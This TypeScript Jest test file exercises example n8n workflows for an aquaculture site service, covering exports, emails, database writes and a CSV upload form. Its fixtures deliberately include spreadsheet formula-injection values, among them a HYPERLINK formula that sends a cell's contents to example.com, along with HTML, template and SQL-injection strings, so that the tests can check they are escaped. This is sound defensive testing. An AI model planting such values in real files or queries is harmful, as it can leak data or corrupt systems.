import { randomUUID } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { parse as parseCsv } from 'csv-parse/sync';
import { parse } from 'flatted';
import type { IDataObject, INodeCredentials, IRunExecutionData } from 'n8n-workflow';
import readXlsx from 'read-excel-file/node';
import type { Fault } from '../../emulator/faults';
import { knownSitesOf, SITES } from '../../emulator/sites';
import { useN8n } from '../../testbed/jest/useN8n';
import { Editor } from '../../testbed/n8n/editor';
import { createCredentials, exampleNames, exampleWorkflow } from '../../testbed/n8n/examples';
import { errorOf, itemsOf, type Execution } from '../../testbed/n8n/instance';
import { IS_N8N_1 } from '../../testbed/n8n/versions';
import { queryPostgresql, startPostgresql } from '../../testbed/servers/databases';
import { startForecasts } from '../../testbed/servers/forecasts';
import { MailServer } from '../../testbed/servers/mailServer';
import { OtherService } from '../../testbed/servers/otherService';
import { until } from '../../testbed/wait';
import {
	getSiteNode,
	pollTimesOf,
	step,
	webhookWorkflow,
	workflow,
	type NewWorkflow,
	type Step,
} from '../../testbed/workflows';
import { Page } from '../docs/pages';
import { chosen, sitesTable, tableFile } from './dataTables';

// Slow: starts n8n, and a browser for the form.

/** Names that emails or n8n's templates could misread as markup or code. */
const ODD_SITE = {
	siteId: 1031,
	siteName: `Pris $& <b>fet</b> {{ 1 + 1 }} & $'`,
	units: [{ unitId: 1, unitName: 'Merd "å" > 1 $1', longitude: 5.5, latitude: 60 }],
};

/** Texts that spreadsheet programs could run as formulas. */
const FORMULA_SITE = {
	siteId: 1033,
	siteName: '=HYPERLINK("https://example.com?"&A1;"Storvågen")',
	info: {
		code: '+1+cmd',
		type: '@SUM(A1)',
		license: '-1+1',
		timezone: '\t=1+1',
		longitude: -73.25,
		latitude: -44.5,
		maxTotalBiomass: -1,
	},
	units: [{ unitId: 4, unitName: '=1+1', longitude: -73.25, latitude: -44.5 }],
};

/** The credential knows all of them by name. */
const ALL_SITES = [...SITES, ODD_SITE, FORMULA_SITE];

const HEADINGS = [
	...['siteId', 'siteName', 'code', 'type', 'license', 'maxTotalBiomass', 'timezone'],
	...['longitude', 'latitude', 'numberOfUnits'],
];
/** Rows of the sheet; some sites lack fields. */
const ROWS = [
	[1021, 'Gamle Brygga', null, null, null, null, null, 5.2204, 60.3871, 2],
	[1004, 'Lille Grønnvik', 'LGV', 'Sea', 'N-V-0104', 1560, 'Europe/Oslo', 15.6412, 68.2283, 3],
	[1031, ODD_SITE.siteName, null, null, null, null, null, null, null, 1],
	// A real formula would be read back as its result. The reader trims texts.
	[1033, FORMULA_SITE.siteName, '+1+cmd', '@SUM(A1)', '-1+1', -1, '=1+1', -73.25, -44.5, 1],
];

const ADDRESSES = { fromEmail: 'farm@example.com', toEmail: 'a@example.com, b@example.com' };
const SENDING = { 'Send Email': ADDRESSES };
/** Of a trigger. */
const POLLING = {
	sites: 'byId',
	siteIds: '1023',
	pollTimes: pollTimesOf(Array.from({ length: 20 }, (_, index) => index * 3)),
};
/** The form's login. */
const FORM_LOGIN = { username: 'farm', password: 'form-Passw0rd' };
const UNKNOWN = 'The service does not know site Storvågen (1001)';

const GUIDE = new Page('examples/README.md');
const NO_RIGHT: Fault = { kind: 'status', status: 403, body: '{}' };

function list(name: string, items: readonly object[]): Step[] {
	const jsonOutput = JSON.stringify({ items });
	return [
		step(`${name} as one`, 'set', { mode: 'raw', jsonOutput }, { typeVersion: 3.4 }),
		step(name, 'splitOut', { fieldToSplitOut: 'items' }),
	];
}

const firstSentenceOf = (html = '') => /^<div[^>]*>\s*<p>(.*?)<\/p>/.exec(html)?.[1];

const { cleanup, emulator, n8n, activate } = useN8n({ sites: ALL_SITES });
let mailServer: MailServer;
let credentials: INodeCredentials;
let editor: Editor;

beforeAll(async () => {
	mailServer = await cleanup.use(new MailServer().start());
	credentials = await createCredentials(n8n, {
		aquacultureApi: { ...emulator.credential, knownSites: knownSitesOf(ALL_SITES) },
		smtp: mailServer.credential,
		httpBasicAuth: { user: FORM_LOGIN.username, password: FORM_LOGIN.password },
	});
	editor = await Editor.open(cleanup, n8n, FORM_LOGIN);
});
beforeEach(() => {
	emulator.reset();
	mailServer.mails.length = 0;
});

const importExample = async (name: string, filledIn?: Record<string, IDataObject>) =>
	await n8n.createWorkflow(exampleWorkflow(name, credentials, filledIn));
const runWorkflow = async (made: NewWorkflow) => {
	const execution = await n8n.runManually(await n8n.createWorkflow(made));
	expect([execution.status, errorOf(execution)]).toEqual(['success', undefined]);
	return execution;
};
const run = async (name: string, filledIn?: Record<string, IDataObject>) =>
	await runWorkflow(exampleWorkflow(name, credentials, filledIn));
/** Runs an example that saves what it can read, and then fails with a message that names this site. */
const runWithFailure = async (
	name: string,
	site: string,
	filledIn?: Record<string, IDataObject>,
) => {
	const execution = await n8n.runManually(await importExample(name, filledIn));
	const { lastNodeExecuted } = (parse(execution.data) as IRunExecutionData).resultData;
	expect([errorOf(execution), lastNodeExecuted]).toEqual([
		expect.stringContaining(site),
		'Report Failures',
	]);
};
const fileOf = async (execution: Execution, node: string) => {
	const file = itemsOf(execution, node)[0]?.binary?.data;
	if (!file) throw new Error(`${node} has returned no file`);
	return { name: file.fileName, content: await n8n.download(file) };
};
const change = (siteId: number, changed: IDataObject) =>
	emulator.changeSite(siteId, ({ info, ...site }) => ({
		...{ ...site, info: { ...info, ...changed } },
	}));
/** Publishes an example with a trigger, and waits for its first polls. */
const watch = async (name: string, trigger: string, filledIn: Record<string, IDataObject>) => {
	const id = await importExample(name, { [trigger]: POLLING, ...filledIn });
	await activate(id);
	await until(() => emulator.journal.count('site') > 1);
	return id;
};

/** The smallest zoom of the canvas at which its notes can be read. */
const READABLE = 0.58;

it.each(exampleNames())('%s opens at a size at which its notes can be read whole', async (name) => {
	await editor.openWorkflow(await importExample(name));

	expect(await editor.zoom()).toBeGreaterThan(READABLE);
	expect(await editor.cutOffNotes()).toEqual([]);
});

it.each([
	['get-a-site', 'Get Site', '/meta/sites/1001?$include=units,info'],
	['another-part-of-the-service', 'HTTP Request', '/meta/sites/1001?%24include=units%2Cinfo'],
])('%s reads a site', async (name, node, url) => {
	const address = { url: `${emulator.baseUrl}/meta/sites/1001` };
	const execution = await run(name, { 'HTTP Request': address });

	expect(itemsOf(execution, node).map(({ json }) => json)).toEqual([SITES[0]]);
	expect(emulator.journal.of('site').map((request) => request.url)).toEqual([url]);
});

it('sites-to-an-xlsx-file makes a file with a row for each site', async () => {
	const siteIds = ROWS.map(([siteId]) => siteId).join();
	const execution = await run('sites-to-an-xlsx-file', {
		'Get Many Sites': { sites: 'byId', siteIds },
	});

	const { name, content } = await fileOf(execution, 'Convert to XLSX');
	expect(name).toBe('sites.xlsx');
	await expect(readXlsx(content)).resolves.toEqual([{ sheet: 'Sites', data: [HEADINGS, ...ROWS] }]);
});

it('weekly-email mails a table and a sheet of all known sites, and says which ones could not be read', async () => {
	emulator.changeSite(1001, () => undefined);
	await run('weekly-email', SENDING);

	const [mail, ...more] = mailServer.mails;
	expect(more).toEqual([]);
	expect(mail).toMatchObject({
		subject: expect.stringMatching(/^Our sites, \d+ \w+ 20\d\d$/) as unknown,
		from: { address: 'farm@example.com' },
		recipients: ['a@example.com', 'b@example.com'],
	});
	const [headings, ...rows] = await editor.tableIn(mail?.html);
	expect(headings).toEqual(['Site', 'Licence', 'Biomass limit', 'Units', 'Remark']);
	expect(rows).toHaveLength(ALL_SITES.length);
	expect(rows).toEqual(
		expect.arrayContaining([
			['Storvågen (1001)', '', '', '', `Could not be read: ${UNKNOWN}`],
			['Gamle Brygga (1021)', '', '', '2', ''],
			['Cañal "Ø" & søn, <test> (1023)', 'RNA-10223', '900', '3', ''],
			[`${ODD_SITE.siteName} (1031)`, '', '', '1', ''],
			[`${FORMULA_SITE.siteName} (1033)`, '-1+1', '-1', '1', ''],
		]),
	);
	expect(mail?.html).toContain(`${ALL_SITES.length - 1} of ${ALL_SITES.length} sites were read.`);
	expect(mail?.html).not.toMatch(/<b>|<img|<style|undefined|null/);
	expect(mail?.html).toMatch(/white-space: ?nowrap[^>]*>T-N-0102</);
	expect(mail?.attachments.map(({ filename }) => filename)).toEqual([
		expect.stringMatching(/^sites-20\d\d-\d\d-\d\d\.xlsx$/),
	]);
	const [sheet] = await readXlsx(Buffer.from(mail?.attachments[0]?.content as ArrayBuffer));
	expect(sheet?.data).toHaveLength(1 + ALL_SITES.length);
	expect(sheet?.data.slice(0, 2)).toEqual([
		[...HEADINGS, 'message'],
		[1001, 'Storvågen', ...Array<null>(8).fill(null), UNKNOWN],
	]);
	expect(sheet?.data).toEqual(expect.arrayContaining(ROWS.map((row) => [...row, null])));
});

it('sea-and-weather mails a row for each site, with or without a position', async () => {
	const norway = await cleanup.use(startForecasts());
	emulator.changeSite(1004, () => undefined);
	change(1002, { longitude: 0, latitude: 0 });
	const { nodes } = exampleWorkflow('sea-and-weather');
	const addresses = Object.fromEntries(
		['Sea', 'Weather'].map((name) => {
			const url = String(nodes.find((node) => node.name === name)?.parameters.url);
			expect(url).toMatch(/^https:\/\/api\.met\.no\/weatherapi\//);
			return [name, { url: norway.address + new URL(url).pathname }];
		}),
	);
	await run('sea-and-weather', {
		...{ ...addresses, ...SENDING },
		'Get Many Sites': { sites: 'byId', siteIds: '1001, 1002, 1004, 1031' },
	});

	const [, ...rows] = await editor.tableIn(mailServer.mails[0]?.html);
	expect(rows).toEqual([
		['Storvågen (1001)', '8.3', '2.3', '5.2', '17.8', '-0.4', ''],
		['Kråkøya (1002)', '', '', '', '', '', 'No position'],
		[
			...['Lille Grønnvik (1004)', '', '', '', '', ''],
			'Could not be read: The service does not know site Lille Grønnvik (1004)',
		],
		[`${ODD_SITE.siteName} (1031)`, '', '', '', '', '', 'No position'],
	]);
	expect(norway.asked.map(({ url }) => url.split('?')[1])).toEqual(
		Array(2).fill('lat=63.5218&lon=8.4127'),
	);
	for (const { headers } of norway.asked) {
		expect(headers['user-agent']).toBe('n8n workflow of farm@example.com');
	}
});

it('sites-and-units-to-postgresql inserts sites and units, updates them the next time, and fails with the names of those that it could not read', async () => {
	const database = await cleanup.use(startPostgresql());
	const { port } = database;
	const postgres = { host: '127.0.0.1', port, database: 'postgres', user: 'n8n', password: '' };
	Object.assign(
		credentials,
		await createCredentials(n8n, { postgres: { ...postgres, ssl: 'disable' } }),
	);
	const stored = async (query: string) =>
		parseCsv(await queryPostgresql(database, query), { from: 2 });
	await run('sites-and-units-to-postgresql');
	await expect(stored('SELECT count(*) FROM aquaculture_sites')).resolves.toEqual([
		[String(ALL_SITES.length)],
	]);

	emulator.changeSite(1001, () => undefined);
	emulator.changeSite(1004, ({ info, units, ...site }) => ({
		...site,
		siteName: 'Grønnvik\u0000 A',
		info: { ...info, license: `O'Hara "1"; --`, maxTotalBiomass: null },
		units: [...(units ?? []).slice(1), { unitId: 10049, unitName: 'Vest' }],
	}));
	await runWithFailure('sites-and-units-to-postgresql', 'Storvågen');

	const sites = `SELECT "siteName", "license", "maxTotalBiomass", "latitude", "readAt" > now() - interval '1 hour' FROM aquaculture_sites`;
	await expect(
		stored(`${sites} WHERE "siteId" IN (1001, 1004, 1021) ORDER BY "siteId"`),
	).resolves.toEqual([
		['Storvågen', 'M-H-0101', '3120', '63.5218', 't'],
		['Grønnvik A', `O'Hara "1"; --`, '', '68.2283', 't'],
		['Gamle Brygga', '', '', '60.3871', 't'],
	]);
	const units = 'SELECT "unitId", "unitName", "latitude" FROM aquaculture_units';
	await expect(
		stored(`${units} WHERE "siteId" IN (1004, 1021) ORDER BY "unitId"`),
	).resolves.toEqual([
		['10040', 'Nord', '68.2283'],
		['10041', 'Midt', '68.2285'],
		['10042', 'Sør', '68.2287'],
		['10049', 'Vest', ''],
		['10210', '', ''],
	]);
});

describe('sites-in-a-data-table', () => {
	const importTable = async () => {
		const table = await n8n.importDataTable(
			`Sites ${randomUUID()}`,
			tableFile('sites-in-a-data-table'),
		);
		return { table, tables: sitesTable(table) };
	};
	const goneIn = (rows: IDataObject[]) =>
		rows.filter(({ gone }) => gone === true).map(({ siteId }) => siteId);

	it('inserts sites, updates them the next time, and marks those that are gone', async () => {
		const { table, tables } = await importTable();
		await run('sites-in-a-data-table', tables);
		const inserted = await n8n.rowsOfDataTable(table);
		emulator.changeSite(1001, () => undefined);
		change(1004, { license: 'N-V-0999', maxTotalBiomass: null });
		await run('sites-in-a-data-table', tables);
		const updated = await n8n.rowsOfDataTable(table);

		const [sample, ...rows] = inserted;
		expect(sample).toMatchObject({ siteName: 'Sample', gone: true });
		expect(rows.map(({ siteId }) => siteId)).toEqual(ALL_SITES.map(({ siteId }) => siteId));
		expect(goneIn(rows)).toEqual([]);
		const isThen = expect.stringMatching(/^20\d\d-/) as unknown;
		expect(rows[0]).toMatchObject({
			...{ siteId: 1001, siteName: 'Storvågen', code: 'STO', type: 'Sea', license: 'M-H-0101' },
			...{ maxTotalBiomass: 3120, timezone: 'Europe/Oslo', longitude: 8.4127, latitude: 63.5218 },
			...{ numberOfUnits: 8, readAt: isThen },
		});
		expect(goneIn(updated)).toEqual([sample?.siteId, 1001]);
		expect(updated).toHaveLength(inserted.length);
		expect(updated[1]).toMatchObject({ license: 'M-H-0101', readAt: rows[0]?.readAt });
		expect(updated[4]).toMatchObject({ siteId: 1004, license: 'N-V-0999', maxTotalBiomass: null });
	});

	it('saves the others if a site cannot be read, marks none as gone, and fails with its name', async () => {
		const { table, tables } = await importTable();
		emulator.fail({ route: 'site', siteId: 1002, fault: NO_RIGHT });
		await runWithFailure('sites-in-a-data-table', 'Kråkøya', tables);
		const rows = await n8n.rowsOfDataTable(table);

		expect(rows).toHaveLength(ALL_SITES.length);
		expect(goneIn(rows)).toEqual([]);
	});
});

it('log-of-changes adds a row for each change, and one row for a change that comes twice', async () => {
	const table = await n8n.importDataTable('Changes', tableFile('log-of-changes'));
	const saving = { 'Save Change': chosen(table) };
	const id = await watch('log-of-changes', 'Site Changed', saving);
	change(1023, { license: 'N-V-0200', maxTotalBiomass: 950 });
	await until(async () => (await n8n.rowsOfDataTable(table)).length > 2);
	await n8n.deactivate(id);
	const [, ...logged] = await n8n.rowsOfDataTable(table);
	const saveChange = exampleWorkflow('log-of-changes', {}, saving).nodes.filter(
		({ name, type }) => name !== 'Site Changed' && !type.endsWith('.stickyNote'),
	);
	const report = { ...logged[0], change: 'statusReport', changeId: 'report' };
	const fromNewerVersion = logged.map((each) => ({ ...each, newColumn: 1 }));
	const items = list('Changes', [...fromNewerVersion, report]);
	const again = [step('Start', 'manualTrigger'), ...items, ...saveChange];
	await runWorkflow(workflow('Again', again));

	expect(logged).toMatchObject(
		[
			['licenseChanged', 'Licence', 'RNA-10223', 'N-V-0200'],
			['biomassLimitChanged', 'Biomass limit', '900', '950'],
		].map(([kind, fieldName, oldValue, newValue]) => ({
			...{ change: kind, fieldName, oldValue, newValue, siteId: 1023, unitId: null },
			changeId: expect.stringMatching(/^[0-9a-z]{19}$/) as unknown,
		})),
	);
	await expect(n8n.rowsOfDataTable(table)).resolves.toHaveLength(1 + logged.length);
});

it('units-on-a-map makes a file with a line for each unit, and the columns that maps look for', async () => {
	const execution = await run('units-on-a-map');

	const { name, content } = await fileOf(execution, 'Convert to CSV');
	const rows = parseCsv(content, { bom: true, columns: true }) as Array<Record<string, string>>;
	expect(name).toBe('units.csv');
	expect(rows).toHaveLength(ALL_SITES.flatMap((site) => site.units ?? []).length);
	expect(rows[0]).toMatchObject({
		...{ siteName: 'Storvågen', unitName: 'Merd 1', latitude: '63.5218', longitude: '8.4127' },
		siteLicense: 'M-H-0101',
	});
});

describe('email-when-a-workflow-fails', () => {
	/** Publishes a workflow whose failures the example mails. */
	const publish = async (failing: NewWorkflow) => {
		const errorWorkflow = await importExample('email-when-a-workflow-fails', SENDING);
		// n8n 1 cannot activate a workflow that begins with an error trigger, and does not need to.
		if (!IS_N8N_1) await activate(errorWorkflow);
		const settings = { ...(failing.settings as IDataObject), errorWorkflow };
		await activate(await n8n.createWorkflow({ ...failing, settings }));
	};

	it('mails what has failed, and where to go on', async () => {
		const failing = webhookWorkflow('failing', getSiteNode(`${credentials.aquacultureApi?.id}`));
		await publish({ ...failing, name: 'Sites & <pens>' });
		await n8n.answersAt('failing');
		mailServer.mails.length = 0;
		await n8n.callWebhook('failing', [{ id: 4040 }]).catch(() => undefined);
		await until(() => mailServer.mails.some(({ text }) => text?.includes('4040')));

		const mail = mailServer.mails.find(({ text }) => text?.includes('4040'));
		expect(mail?.subject).toBe('n8n: "Sites & <pens>" failed');
		expect(mail?.text).toMatch(
			/^Workflow: Sites & <pens>\s+Node: Node\s+The service does not know .*4040[^]*http:\/\/\S+\/executions?\/\d+/,
		);
		expect(mail?.text).not.toMatch(/undefined|null/);
	});

	it('mails the failure of a trigger that was published later', async () => {
		const filledIn = { 'Licence or Limit Changed': POLLING, ...SENDING };
		await publish(exampleWorkflow('alert-by-email', credentials, filledIn));
		emulator.changeSite(1023, () => undefined);
		await until(() => mailServer.mails.length > 0);

		const [mail] = mailServer.mails;
		expect(mail?.subject).toBe('n8n: "Alert by email" failed');
		expect(mail?.text).toContain('The service does not know site');
		expect(mail?.text).not.toMatch(/undefined|null/);
	});
});

it('alert-to-teams-or-slack posts all changes of a poll in one message, in the form of each', async () => {
	const chat = await cleanup.use(new OtherService().start());
	await watch('alert-to-teams-or-slack', 'Site Changed', {
		'Post to Teams': { url: `${chat.address}/teams` },
		'Post to Slack': { url: `${chat.address}/slack` },
	});
	emulator.changeSite(1023, (site) => ({ ...site, siteName: 'Cañal & <sur>' }));
	await until(() => chat.asked.length >= 2);

	const line = 'Name of Cañal & <sur> (1023): Cañal "Ø" & søn, <test> → Cañal & <sur>';
	const slackLine = line.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
	const posted = Object.fromEntries(chat.asked.map(({ url, body }) => [url, body]));
	expect(posted['/slack']).toEqual({ mrkdwn: false, text: `• ${slackLine}` });
	const body = [{ type: 'RichTextBlock', inlines: [{ type: 'TextRun', text: line }] }];
	expect(posted['/teams']).toMatchObject({
		type: 'message',
		attachments: [
			{
				contentType: 'application/vnd.microsoft.card.adaptive',
				content: { type: 'AdaptiveCard', version: '1.4', body },
			},
		],
	});
});

it('alert-by-email mails the changes of the licence and of the biomass limit in one table, and nothing else', async () => {
	await watch('alert-by-email', 'Licence or Limit Changed', SENDING);
	change(1023, { license: '<b>N-V-0200', timezone: 'UTC', maxTotalBiomass: null });
	await until(() => mailServer.mails.length > 0);

	const [mail] = mailServer.mails;
	expect(mail?.subject).toBe('2 changes of licence or biomass limit');
	expect(firstSentenceOf(mail?.html)).toBe('The licence or the biomass limit has changed:');
	const site = 'Cañal "Ø" & søn, <test> (1023)';
	const rows = await editor.tableIn(mail?.html);
	expect(rows.map((row) => row.slice(0, 4))).toEqual([
		['Site', 'What', 'Before', 'Now'],
		...[
			[site, 'Licence', 'RNA-10223', '<b>N-V-0200'],
			[site, 'Biomass limit', '900', '(empty)'],
		],
	]);
});

it('alert-by-email mails changes and a status report apart', async () => {
	const TRIGGER = 'Licence or Limit Changed';
	const { nodes, connections } = exampleWorkflow('alert-by-email', credentials, SENDING);
	const seenAt = '2026-03-02T07:15:04.120Z';
	const changed = { change: 'licenseChanged', summary: 'Changed', seenAt };
	const report = { change: 'statusReport', summary: 'All is well: <12> sites. 1 change.', seenAt };
	const { nodes: start, connections: begin } = workflow('Alert', [
		step('Start', 'manualTrigger'),
		...list(TRIGGER, [changed, report]),
	]);
	const others = nodes.filter(({ name }) => name !== TRIGGER);
	await runWorkflow({
		name: 'Alert',
		nodes: [...start, ...others],
		connections: { ...connections, ...begin },
	});

	const [mail, ...more] = mailServer.mails.sort((one, other) =>
		`${one.subject}`.localeCompare(`${other.subject}`),
	);
	expect([mail, ...more].map((each) => each?.subject)).toEqual([
		'All is well: <12> sites',
		'Changed',
	]);
	expect(mail?.html).toContain('All is well: &lt;12> sites');
	await expect(editor.tableIn(mail?.html)).resolves.toEqual([]);
});

it('alert-by-email says in the email of a sample that nothing has changed', async () => {
	const watched = { sites: 'byId', siteIds: '1023' };
	await run('alert-by-email', { 'Licence or Limit Changed': watched, ...SENDING });

	// The first one is a sample of the status report.
	const mail = mailServer.mails.at(-1);
	expect(mail?.subject).toMatch(/^Sample: /);
	expect(firstSentenceOf(mail?.html)).toBe('This is a sample. Nothing has changed.');
});

describe('list-with-site-data', () => {
	const NOTE = 'Blåskjell – 12 €, ørret';
	let address: string;

	beforeAll(async () => {
		await n8n.activate(await importExample('list-with-site-data'));
		const { nodes } = exampleWorkflow('list-with-site-data');
		address = `${n8n.address}/form/${nodes.find(({ webhookId }) => webhookId)?.webhookId}`;
		await until(async () => (await fetch(address)).status !== 404);
	});

	const send = async (name: string, content: string | Buffer) => {
		const { page } = editor;
		await page.goto(address);
		const file = { name, mimeType: 'application/octet-stream', buffer: Buffer.from(content) };
		await page.locator('input[type="file"]').setInputFiles(file);
		await page.getByRole('button', { name: 'Add the site data' }).click();
	};
	/** Uploads a file, and returns the one that the form hands over. */
	const upload = async (...given: [name: string, content: string | Buffer]) => {
		const downloading = editor.page.waitForEvent('download');
		const [download] = await Promise.all([downloading, send(...given)]);
		await editor.page.getByText('Your file is ready').waitFor();
		return { name: download.suggestedFilename(), file: await readFile(await download.path()) };
	};
	/** Uploads a file that the form refuses, and returns what it says. */
	const refusalOf = async (...given: [name: string, content: string]) => {
		await send(...given);
		await editor.page.getByText('No sites found in your list').waitFor();
		return await editor.page.locator('body').innerText();
	};
	const enrich = async (csv: string | Buffer, delimiter: string, uploaded = 'My sites.csv') => {
		const { name, file } = await upload(uploaded, csv);
		expect(name).toBe('My sites-with-sites.csv');
		return parseCsv(file, { bom: true, delimiter });
	};
	const added = ['message', ...HEADINGS.slice(1)];
	const OWN = ['siteId', 'siteName', 'type', 'Notes'];

	it('asks for a login, and says how long a list takes', async () => {
		// n8n 2.41 checks the content type before the login.
		for (const sent of [{}, { method: 'POST', body: new FormData() }]) {
			expect((await fetch(address, sent)).status).toBe(401);
		}
		const authorization = `Basic ${btoa(Object.values(FORM_LOGIN).join(':'))}`;
		const page = await fetch(address, { headers: { authorization } });
		await expect(page.text()).resolves.toContain('A minute is enough for about 90 sites');
	});

	it.each<[string, string, string[], string[]]>([
		[
			'adds the data of each site to the columns of the file, and leaves a row as it is if its site cannot be read',
			',',
			[OWN.join(), '4040,Mine,mine,"unknown, as far as I know"', ' 1001 ,Mine,mine,"says ""hei"""'],
			[
				[...OWN, ...added.filter((column) => !OWN.includes(column))].join('|'),
				'4040|Mine|mine|unknown, as far as I know|The service does not know site 4040|||||||',
				'1001|Storvågen|Sea|says "hei"||STO|M-H-0101|3120|Europe/Oslo|8.4127|63.5218|8',
			],
		],
		[
			'writes no cell that begins a formula, and leaves numbers as they are',
			';',
			['siteId;=Heading;Change;Phone', '1033;=1+1;-12,5;+47 400 12 345'],
			[
				['siteId', `'=Heading`, 'Change', 'Phone', ...added].join('|'),
				`1033|'=1+1|-12,5|+47 400 12 345||'${FORMULA_SITE.siteName}|'+1+cmd|'@SUM(A1)|'-1+1|-1|'\t=1+1|-73.25|-44.5|1`,
			],
		],
	])('%s', async (_promise, delimiter, lines, rows) => {
		const enriched = await enrich(lines.join('\n'), delimiter);

		expect(enriched.map((cells) => cells.join('|'))).toEqual(rows);
	});

	it.each<[how: string, csv: string | Buffer, note: string, delimiter?: string, file?: string]>([
		[
			'in Windows-1252',
			// There, € is 0x80 and the dash is 0x96.
			Buffer.from('siteId;Note\r\n1002;Bl\xe5skjell \x96 12 \x80, \xf8rret\r\n', 'latin1'),
			NOTE,
		],
		['in UTF-8 with a byte order mark', `\ufeffsiteId;Note\r\n1002;${NOTE}\r\n`, NOTE],
		['in UTF-16', Buffer.from(`\ufeffsiteId;Note\r\n1002;${NOTE}\r\n`, 'utf16le'), NOTE],
		['with a line that names the separator', 'sep=;\r\nsiteId;Note\r\n1002;07\r\n', '07'],
		['with bars between the columns', 'siteId|Note\n1002|07\n', '07', '|'],
		['with texts that are marked with =', 'siteId;Note\n="1002";"=""07"""\n', '07'],
		['that is named .xlsx', `siteId;Note\n1002;${NOTE}\n`, NOTE, ';', 'My sites.xlsx'],
	])('reads a CSV file %s', async (_how, csv, note, delimiter = ';', file) => {
		const [headings, row] = await enrich(csv, delimiter, file);

		expect(headings?.slice(0, 2)).toEqual(['siteId', 'Note']);
		expect(row?.slice(0, 4)).toEqual(['1002', note, '', 'Kråkøya']);
	});

	it.each([
		['My sites', '.xls', 'xls'],
		['My sites', '.xlsm', 'xlsx'],
		['My sites', '.ods', 'ods'],
		['Sites.2026', '.XLSX', 'xlsx'],
	])('updates a file %s%s, and gives an XLSX file', async (...given) => {
		const [base, ending, operation] = given;
		const made = [
			step('Start', 'manualTrigger'),
			...list('Rows', [{ siteId: 1033, Note: '=1+1', license: 'before' }]),
			step('File', 'convertToFile', { operation }, { typeVersion: 1.1 }),
		];
		const execution = await runWorkflow(workflow('Workbook', made));
		const { content } = await fileOf(execution, 'File');
		const { name, file } = await upload(base + ending, content);

		expect(name).toBe(`${base}-with-sites.xlsx`);
		const [sheet] = await readXlsx(file);
		expect(sheet?.data.map((row) => row.slice(0, 5))).toEqual([
			['siteId', 'Note', 'license', 'message', 'siteName'],
			[1033, '=1+1', '-1+1', null, FORMULA_SITE.siteName],
		]);
	});

	it('replaces what it added to a CSV file before', async () => {
		const { file: first } = await upload('My sites.csv', 'Manager,site\nÅse,1001\nMar,1002\n');
		change(1001, { license: null });
		change(1002, { license: 'T-N-0999' });
		const [headings = [], ...rows] = await enrich(first, ',');

		expect(headings).toEqual(['Manager', 'site', 'message', ...HEADINGS]);
		expect(rows.map((row) => row.slice(0, 8))).toEqual([
			['Åse', '1001', '', '1001', 'Storvågen', 'STO', 'Sea', ''],
			['Mar', '1002', '', '1002', 'Kråkøya', 'KRA', 'Sea', 'T-N-0999'],
		]);
	});

	const HEADINGS_OF_SITES = ['siteId', 'Site', 'Site ID', 'site_id', 'Site Name', 'LOKALITET'];

	it.each(HEADINGS_OF_SITES)('finds the sites below the heading %s', async (heading) => {
		const [headings = [], row = []] = await enrich(`Manager;${heading}\nÅse;1002\n`, ';');

		expect(row[headings.indexOf('siteName')]).toBe('Kråkøya');
	});

	const NO_COLUMN = 'Anlegg,<b>Merknad</b> & co\n1001,a\n';
	const LINE_3 = /line 3[^]*separator too many/;
	it.each<[what: string, csv: string, says: RegExp, file?: string]>([
		['as what to save another file', '<table></table>', /save it as XLSX/, 'My sites.xls'],
		['that a column is missing', NO_COLUMN, /The headings found: Anlegg, <b>Merknad<\/b> & co\./],
		['which line has a separator too many', 'siteId,Notes\n1001,\n1002,a,b\n', LINE_3],
		['which line has a stray quotation mark', 'siteId,Notes\n1001,\n1002,12" <b>\n', LINE_3],
		['where a quotation mark is not closed', 'siteId,Notes\n1001,\n1002,"pipe\n', LINE_3],
		['which line, also below a separator', 'sep=;\nsiteId;Notes\n1002;a;b\n', LINE_3],
	])('says %s', async (_what, csv, says, file = 'My sites.csv') => {
		expect(await refusalOf(file, csv)).toMatch(says);
		expect(emulator.journal.of('site')).toEqual([]);
	});

	it('takes the file that its guide shows', async () => {
		const trial = GUIDE.blocks.find(({ language }) => language === 'csv');
		const [headings = [], ...rows] = await enrich(trial?.text ?? '', ',');

		const read = rows.map(
			(row: string[]) => row[headings.indexOf('siteName')] || row[headings.indexOf('message')],
		);
		expect(read).toEqual(['Storvågen', 'Kråkøya', 'The service does not know site 4040']);
	});
});
